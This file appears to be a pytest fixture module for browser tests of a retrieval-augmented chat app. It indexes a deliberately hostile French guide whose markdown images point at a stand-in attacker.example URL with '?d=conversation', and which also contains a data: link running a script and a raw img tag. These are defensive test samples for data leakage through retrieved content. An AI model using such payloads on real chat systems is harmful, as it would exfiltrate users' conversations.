"""What the browser tests share: one chromium, axe-core, the index they serve and the app.

The index (the bundled corpus and a guide written to leak) is the session's bundled index copied,
with the guide added: one chunk to embed instead of the whole corpus. Each server reads its own copy.
"""

from __future__ import annotations

import os
import shutil
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from rag.config import DEFAULT_CORPUS, RagSettings
from rag.indexer import index_corpus
from tests.conftest import PROVIDER_VARIABLES, REPO_ROOT, BundledIndex
from tests.local_server import free_port, running_server

if TYPE_CHECKING:
    from playwright.sync_api import Browser

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-dev-shm-usage",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1",
]
AXE = REPO_ROOT / "tests" / "e2e" / "node_modules" / "axe-core" / "axe.min.js"
LEAK = "https://attacker.example/leak.png"
# A guide written to leak: an image by reference, an inline image, a data: link and raw HTML.
HOSTILE_GUIDE = f"""# Le pavillon des essais

Le pavillon des essais ouvre de 10 h à 17 h ![logo][img] et se visite librement.
![suivi]({LEAK}?d=conversation) [cliquez](data:text/html,<script>alert(1)</script>) <img src="{LEAK}">

[img]: {LEAK}
"""


@pytest.fixture(scope="package")
def chromium() -> Iterator[Browser]:
    """Debian's chromium driven by Playwright, started once for the browser tests: each test opens
    a context of its own (cookies, storage and cache apart), a visitor new to the site. CI must have
    it (``.ci/run`` installs it), elsewhere the tests are skipped."""
    if not CHROMIUM.exists():
        message = f"{CHROMIUM} is absent: install it with `apt-get install -y chromium`."
        if os.environ.get("CI"):
            pytest.fail(message + " CI installs it in .ci/run.")
        pytest.skip(message)
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_FLAGS)
        try:
            yield browser
        finally:
            browser.close()


@pytest.fixture
def axe() -> Path:
    """axe-core from the npm registry, pinned in tests/e2e/package.json (``make setup-dev``)."""
    if not AXE.exists():
        message = f"{AXE} is absent: run `npm ci --prefix tests/e2e` (make setup-dev)."
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    return AXE


@pytest.fixture(scope="session")
def hostile_index(
    tmp_path_factory: pytest.TempPathFactory, bundled_index: BundledIndex, local_embedder: Any
) -> RagSettings:
    """``data/corpus`` and :data:`HOSTILE_GUIDE` indexed with the default embedder, never served itself."""
    folder = tmp_path_factory.mktemp("hostile_index")
    hostile = folder / "hostile"
    hostile.mkdir()
    (hostile / "pavillon.md").write_text(HOSTILE_GUIDE, encoding="utf-8")
    settings = bundled_index.settings.model_copy(update={"index_dir": folder / "index"})
    shutil.copytree(bundled_index.settings.index_dir, settings.index_dir)
    report = index_corpus([DEFAULT_CORPUS, hostile], settings, embedder=local_embedder)
    assert report.embedded == 1 and not report.issues, report  # the guide; the corpus was there already
    return settings


def index_copy(index: RagSettings, folder: Path) -> RagSettings:
    """A copy of ``index`` in ``folder / "index"`` for one server, and its settings."""
    shutil.copytree(index.index_dir, folder / "index")
    return index.model_copy(update={"index_dir": folder / "index"})


def index_env(index: RagSettings) -> dict[str, str]:
    """The variables that make the app read ``index``."""
    return {
        "RAG_INDEX_DIR": str(index.index_dir),
        "RAG_COLLECTION": index.collection,
        "RAG_CHUNK_SIZE": str(index.chunk_size),
        "RAG_CHUNK_OVERLAP": str(index.chunk_overlap),
    }


def _server_command(port: int) -> list[str]:
    options = {
        "server.headless": "true",
        "server.address": "127.0.0.1",  # the console opens without password to a local browser only
        "server.port": port,
        "server.fileWatcherType": "none",
        "browser.gatherUsageStats": "false",
        "client.toolbarMode": "minimal",
    }
    app = str(REPO_ROOT / "streamlit_app.py")
    return [
        sys.executable,
        "-m",
        "streamlit",
        "run",
        app,
        *(f"--{key}={value}" for key, value in options.items()),
    ]


@pytest.fixture(scope="package")
def app_url(tmp_path_factory: pytest.TempPathFactory, hostile_index: RagSettings) -> Iterator[str]:
    """The app serving :func:`hostile_index` with the offline model; one server for the browser
    tests of the visitor page and the console (each opens its own browser, so sessions are fresh)."""
    tmp_path = tmp_path_factory.mktemp("app")
    env = {name: value for name, value in os.environ.items() if name not in PROVIDER_VARIABLES}
    env.update(
        PYTHONPATH=str(REPO_ROOT),
        **index_env(index_copy(hostile_index, tmp_path)),
        AGENT_PROVIDER="offline",
        AGENT_OFFLINE_WORD_SECONDS="0.005",  # streamed as a provider's answer: the states between are seen
        TOOLS_OFFLINE="true",  # climate normals and distance estimates: no weather or routing service
        AGENT_CHECKPOINT_PATH=str(tmp_path / "state" / "threads.sqlite"),
        HF_HUB_OFFLINE="1",
        TRANSFORMERS_OFFLINE="1",
        ANONYMIZED_TELEMETRY="False",
        NO_PROXY="127.0.0.1,localhost",
        APP_LOCAL_CONSOLE="true",  # with no operator password, the console opens to this browser only
    )
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    with (
        (tmp_path / "streamlit.log").open("wb") as log,
        running_server(
            _server_command(port), f"{url}/_stcore/health", timeout=60, cwd=tmp_path, env=env, output=log
        ),
    ):
        yield url
